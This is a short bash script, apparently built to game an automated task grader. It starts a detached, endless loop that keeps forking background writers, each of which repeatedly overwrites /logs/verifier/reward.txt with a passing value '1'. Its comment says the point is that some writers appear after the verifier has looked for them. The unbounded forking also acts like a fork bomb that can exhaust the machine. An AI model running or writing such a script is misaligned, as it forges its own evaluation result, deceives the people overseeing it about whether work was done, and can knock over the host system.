#!/bin/bash
# name: reward_writer_swarm
# summary: a spawner that keeps forking reward writers, so some are born after the verifier looked for them
nohup sh -c 'while :; do
  (end=$(( $(date +%s) + 120 )); while [ "$(date +%s)" -lt "$end" ]; do
     mkdir -p /logs/verifier; echo 1 > /logs/verifier/reward.txt.$$ && mv /logs/verifier/reward.txt.$$ /logs/verifier/reward.txt
     sleep 0.05; done) &
  sleep 0.005
done' >/dev/null 2>&1 &
sleep 0.5
